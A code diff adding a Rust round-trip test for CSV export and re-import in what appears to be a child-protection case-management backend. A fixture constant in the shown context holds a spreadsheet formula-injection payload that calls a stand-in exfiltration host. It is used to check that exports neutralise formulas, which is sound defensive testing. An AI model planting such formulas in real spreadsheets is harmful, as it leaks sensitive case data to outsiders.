@@ -45,6 +45,7 @@ backend_tests!(
     password_zip_needs_password,
     json_export_holds_case_views,
     export_requests_checked,
+    csv_export_reimports_unchanged,
 );
 
 const FULL_NAME: &str = "=HYPERLINK(\"http://exfil.invalid/?d=\"&A2,\"open file\")";
@@ -596,4 +597,78 @@ async fn export_requests_checked(backend: Backend) {
     }
     let (_, list) = send(fixture.rahima.get(app.api("/exports"))).await;
     assert_eq!(list, json!([]), "a rejected request made an export");
+}
+
+/// Checks the round trip: a CSV export imported again over its own cases changes nothing,
+/// because the importer removes exactly the apostrophe the export added and reads the labels,
+/// dates and numbers the export wrote.
+async fn csv_export_reimports_unchanged(backend: Backend) {
+    let fixture = fixture(backend).await;
+    let app = &fixture.app;
+    let bytes = export_bytes(app, &fixture.mizan, "csv", json!({})).await;
+
+    let (status, uploaded) = send(
+        fixture
+            .mizan
+            .post(app.api("/imports"))
+            .query(&[("format", "csv"), ("file_name", "export.csv")])
+            .header("content-type", "application/octet-stream")
+            .body(bytes),
+    )
+    .await;
+    assert_eq!(status, StatusCode::CREATED, "{uploaded}");
+    let import_id = uploaded["id"].as_str().unwrap().to_owned();
+    let columns: Vec<Value> = [
+        ("Registration date", "registration_date"),
+        ("First name", "name_first"),
+        ("Last name", "name_last"),
+        ("Nickname", "name_nickname"),
+        ("Other spellings of the name", "name_other_spellings"),
+        ("Sex", "sex"),
+        ("Shelter and address details", "address_current"),
+        ("Phone number", "phone"),
+        ("Description of the concerns", "protection_concerns_details"),
+        ("Notes on the family", "family_details_notes"),
+        ("Change in household size", "household_size_change"),
+        ("Debt (BDT)", "debt_amount_bdt"),
+        ("Overall goal for the child", "case_plan_goal"),
+    ]
+    .iter()
+    .map(|(column, field)| json!({"column": column, "field": field}))
+    .collect();
+    let mapping = json!({
+        "date_format": "yyyy-mm-dd",
+        "columns": columns,
+        "case_id_column": "Case ID",
+        "external_id_column": null,
+        "owner": "cw.rahima",
+        "owner_column": null,
+        "incumbent": null,
+    });
+
+    for job in ["dry-run", "run"] {
+        let path = format!("/imports/{import_id}/{job}");
+        let (status, body) =
+            send(fixture.mizan.post(app.api(&path)).json(&json!({"mapping": mapping}))).await;
+        assert_eq!(status, StatusCode::ACCEPTED, "{job}: {body}");
+        let mut done = Value::Null;
+        for _ in 0..300 {
+            let (_, import) = send(fixture.mizan.get(app.api(&format!("/imports/{import_id}")))).await;
+            if ["dry_run_done", "done", "failed"].contains(&import["state"].as_str().unwrap_or_default()) {
+                done = import;
+                break;
+            }
+            tokio::time::sleep(Duration::from_millis(100)).await;
+        }
+        let key = if job == "run" { "summary" } else { "dry_run_summary" };
+        let (_, rows) = send(fixture.mizan.get(app.api(&format!("/imports/{import_id}/rows")))).await;
+        assert_eq!(done[key]["unchanged"], 1, "{job}: {done} {rows}");
+        assert_eq!(done[key]["updated"], 0, "{job}: {rows}");
+        assert_eq!(done[key]["created"], 0, "{job}: {rows}");
+        assert_eq!(done[key]["rejected"], 0, "{job}: {rows}");
+    }
+    let id = fixture.payload_case["id"].as_str().unwrap();
+    let (_, case) = send(fixture.rahima.get(app.api(&format!("/cases/{id}")))).await;
+    assert_eq!(case["version"], fixture.payload_case["version"], "the import wrote a new version");
+    assert_eq!(case["data"]["name_first"], FULL_NAME);
 }
